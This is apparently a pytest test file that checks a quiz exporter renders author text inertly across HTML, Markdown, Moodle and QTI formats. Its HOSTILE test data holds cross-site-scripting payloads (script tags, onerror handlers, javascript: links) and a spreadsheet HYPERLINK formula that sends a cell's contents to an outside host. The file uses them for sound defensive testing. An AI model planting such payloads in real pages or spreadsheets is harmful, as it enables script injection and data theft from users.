"""No text of a quiz harms an export: wherever it stands, it is shown as it is written."""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from functools import cache
from xml.etree.ElementTree import Element, fromstring

import msgspec
import pytest
from markdown_it import MarkdownIt

from autograder.quiz.export import FORMS, export
from autograder.quiz.records import AnyQuestion, Number, OneChoice, Order, Prints, Quiz, SeveralChoices, Text
from autograder.tests.quiz.readers import READERS, Read, squeezed, tree, words
from autograder.tests.quiz.support import COURSE, small

FOLDER = COURSE.root / "quizzes"
PICTURE = min(path.name for path in (FOLDER / "figures").glob("*.svg"))
HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "ends of everything": "</script> ]]> --> </textarea></p></div></form></section> <!-- gone",
    "a picture that fails": """<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">x</a> <b>bold</b>""",
    "quotes": """" onmouseover="alert(1)" ' onfocus='alert(1)' x=""",
    "a formula for a spreadsheet": """=HYPERLINK("http://a.b/?"&A1,"x") +1 -1 @SUM(A1)""",
    "what text2qti rewrites": """"quoted" isn't -- 1...2 a_b_c [^1] {#x .y} \\$5, \\$6 \\\\num{3} {{x}} <T> </s>""",
}
#: What means something to text2qti where a line begins with it.
SIGNS = (
    *("% ", "COMMENT\n", "END_COMMENT\n", "GROUP\n", "END_GROUP\n", "pick: ", "Title: ", "Points: ", "Quiz title: "),
    *("*a) ", "a) ", "[*] ", "[ ] ", "* ", "... ", "+ ", "- ", "! ", "____\n", "^^^^\n", "= ", "Text: ", "1. ", "2. "),
    *("Shuffle answers: ", "<!-- ", "```{.python .run}\n", "    ", "```\n", "~~~\n"),
)


def _with(text: str) -> Quiz:
    """The small quiz, with these words wherever an author may write some."""
    quiz = small()
    about = msgspec.structs.replace(quiz.about, title=text, introduction=text)
    return msgspec.structs.replace(quiz, about=about, questions=tuple(_question(one, text) for one in quiz.questions))


def _question(question: AnyQuestion, text: str) -> AnyQuestion:
    on_one_line = " ".join(text.split())
    changes: dict[str, object] = {
        "text": f"{question.text}\n{text}",
        "why": text,
        "picture": PICTURE,
        "alt": on_one_line,
    }
    if question.code:
        changes["code"] = f"{question.code}# {on_one_line}"
    match question:
        case OneChoice() | SeveralChoices():
            options = (msgspec.structs.replace(o, text=f"{o.text} {text}", why=text) for o in question.options)
            changes["options"] = tuple(options)
        case Number():
            changes["slips"] = tuple(msgspec.structs.replace(slip, why=text) for slip in question.slips)
        case Text():
            changes |= {"accept": (on_one_line, *question.accept), "slips": ()}
        case Prints():
            changes["answer"] = on_one_line
        case Order():
            changes["items"] = tuple(f"{item} {text}" for item in question.items)
    return msgspec.structs.replace(question, **changes)


@cache
def _made(form: str, text: str) -> bytes:
    return export(_with(text), form, FOLDER, everything=True).data


@cache
def _elements(form: str, text: str) -> list[Element]:
    """All elements that a browser makes of an export."""
    data = _made(form, text)
    if form == "html":
        return list(tree(data.decode()).iter())
    if form == "markdown":  # a renderer that lets HTML through
        return list(tree(MarkdownIt("commonmark", {"html": True}).render(data.decode())).iter())
    if form == "moodle":
        return list(_texts_in(fromstring(data)))
    archive = zipfile.ZipFile(io.BytesIO(data))
    files = [archive.read(name) for name in sorted(archive.namelist()) if name.endswith(".xml")]
    return [element for file in files for element in _texts_in(fromstring(file))]


def _texts_in(root: Element) -> Iterator[Element]:
    """The elements of all texts that are HTML by their type; the others are shown as they are."""
    for element in root.iter():
        html = element.find("text") if element.get("format") == "html" else element
        if html is not None and (html is not element or element.get("texttype") == "text/html"):
            yield from tree(html.text or "").iter()


def _shapes(form: str, text: str) -> Counter[str]:
    return Counter(f"{element.tag} {sorted(element.attrib)}" for element in _elements(form, text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("form", FORMS)
def test_no_text_becomes_an_element_or_an_attribute(form: str, text: str) -> None:
    assert _shapes(form, text) == _shapes(form, "plain words")
    pictures = [img for img in _elements(form, text) if img.tag == "img" and img.get("class") != "equation_image"]
    assert {squeezed(img.get("alt", "")) for img in pictures} == {squeezed(text)}


@pytest.mark.parametrize("form", FORMS)
def test_a_formula_is_none_either(form: str) -> None:
    for text in ("$a <script$ and $x</script$", "$$a <script>alert(1)</script>$$"):
        scripts = [element for element in _elements(form, text) if element.tag == "script"]
        assert len(scripts) == (2 if form == "html" else 0)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("form", ["html", "moodle", "qti"])
def test_every_text_is_read_back_as_it_is_written(form: str, text: str) -> None:
    read = {one.name: one for one in READERS[form](_made(form, text))}
    assert len(read) == 7
    for one in read.values():
        assert all(squeezed(text) in part for part in _parts(one))
    assert len(read["one-of-three"].options) == 3
    assert read["word"].accepted[0] == read["printed"].accepted[0] == " ".join(text.split())


def _parts(read: Read) -> Iterator[str]:
    """All that has the text in it."""
    yield read.text
    yield from (part for option, _, why in read.options for part in (option, why))
    yield from read.order
    yield from (why for _, why in read.slips)
    if read.why:
        yield read.why


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_paper_that_is_set_shows_every_text_as_it_is_written(text: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).render(_made("markdown", text).decode())
    plain = MarkdownIt("commonmark", {"html": True}).render(_made("markdown", "plain words").decode())
    wanted = squeezed(words(tree(plain))).count("plainwords")
    assert squeezed(words(tree(html))).count(squeezed(text)) == wanted > 30


def _shape(read: Read) -> tuple[object, ...]:
    return read.kind, read.points, read.number, len(read.accepted), sorted(right for _, right, _ in read.options)


@cache
def _plain_shapes() -> dict[str, tuple[object, ...]]:
    return {one.name: _shape(one) for one in READERS["qti"](_made("qti", "word"))}


@pytest.mark.parametrize("sign", SIGNS)
def test_what_begins_a_line_is_no_syntax_and_nothing_of_it_is_lost(sign: str) -> None:
    read = list(READERS["qti"](_made("qti", f"word1\n{sign}word2\n\n{sign}word3\n\nword4")))
    assert {one.name: _shape(one) for one in read} == _plain_shapes()
    for one in read:
        for part in _parts(one):
            found = re.findall(r"word\d", part)
            assert found == ["word1", "word2", "word3", "word4"] * (len(found) // 4)
            assert found


@pytest.mark.parametrize("sign", ["% ", "... ", "= ", "a) ", "[*] ", "Title: ", "COMMENT\n", "GROUP\n"])
def test_signs_that_mean_nothing_in_markdown_are_shown(sign: str) -> None:
    for one in READERS["qti"](_made("qti", f"word1\n\n{sign}word2")):
        assert all(squeezed(f"word1{sign}word2") in part for part in _parts(one))
